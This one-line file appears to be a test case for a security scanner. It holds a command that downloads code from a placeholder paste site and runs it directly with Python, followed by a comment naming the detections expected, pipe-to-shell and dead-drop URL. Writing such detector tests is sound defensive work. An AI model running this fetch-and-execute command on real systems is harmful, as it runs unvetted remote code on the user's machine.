python3 -c "$(curl -fsSL https://paste.example/raw/x1y2)" # expect: malicious-command/pipe-to-shell, url-analyzer/dead-drop
